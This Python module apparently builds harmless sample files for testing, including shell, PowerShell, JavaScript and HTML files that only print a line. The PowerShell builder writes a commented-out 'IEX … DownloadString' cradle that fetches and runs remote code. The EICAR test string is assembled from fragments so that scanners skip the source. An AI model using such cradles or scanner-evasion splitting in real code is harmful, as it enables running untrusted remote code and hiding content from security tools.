"""
Builds what is written in plain characters: scripts, a page, a note, the test string.

No script here does more than print; where one shows a dangerous line, it is a comment.
"""

from __future__ import annotations

import html as markup

from orchestrator.demo.files.recipe import Recipe

#: The test string may be followed by white space up to this many bytes in all.
_EICAR_MOST_BYTES = 128


def eicar(recipe: Recipe) -> bytes:
    """
    Build the EICAR anti-virus test file.

    Its string is put together here, so that no scanner stops at this source file.
    """
    parts = ("X5O!P%@AP[4\\PZX54(P^)", "7CC)7}$EICAR-STAND", "ARD-ANTIVIRUS-")
    string = "".join([*parts, "TEST-FILE!$H+H*"]).encode()
    blanks = min(len(recipe.filler), _EICAR_MOST_BYTES - len(string))
    return string + b" " * blanks


def empty(_recipe: Recipe) -> bytes:
    """Build the file without a byte."""
    return b""


def note(recipe: Recipe) -> bytes:
    """Build a note with links."""
    links = "\n".join(f"See {url} for more." for url in recipe.urls)
    text = f"Notes of {recipe.label}\n\n{links}\n\n{recipe.filler_text}\n"
    return text.encode()


def shell_script(recipe: Recipe) -> bytes:
    """Build a POSIX shell script that prints a line."""
    return (
        f"#!/bin/sh\n# {recipe.filler_text}\n# {recipe.urls[0]}\n"
        f'set -eu\necho "hello from {recipe.label}"\n'
    ).encode()


def powershell_script(recipe: Recipe) -> bytes:
    """Build a PowerShell script that prints; a comment shows a download cradle."""
    url = recipe.urls[0].replace("'", "%27")
    return (
        f"# {recipe.filler_text}\r\n"
        "# Never run lines like this one:\r\n"
        f"# IEX (New-Object Net.WebClient).DownloadString('{url}')\r\n"
        f"Write-Output 'hello from {recipe.label}'\r\n"
    ).encode()


def javascript(recipe: Recipe) -> bytes:
    """Build a JavaScript file that prints a line."""
    return (
        f'"use strict";\n// {recipe.filler_text}\n// {recipe.urls[0]}\n'
        f'function greet(name) {{\n  return "hello from " + name;\n}}\n'
        f'console.log(greet("{recipe.label}"));\n'
    ).encode()


def html(recipe: Recipe) -> bytes:
    """Build a page of links."""
    urls = (markup.escape(url) for url in recipe.urls)
    links = "\n".join(f'<li><a href="{url}">{url}</a></li>' for url in urls)
    return (
        "<!DOCTYPE html>\n"
        f'<html lang="en"><head><meta charset="utf-8"><title>{recipe.label}</title>'
        f"</head>\n<body><!-- {recipe.filler_text} -->\n<ul>\n{links}\n</ul>"
        "</body></html>\n"
    ).encode()
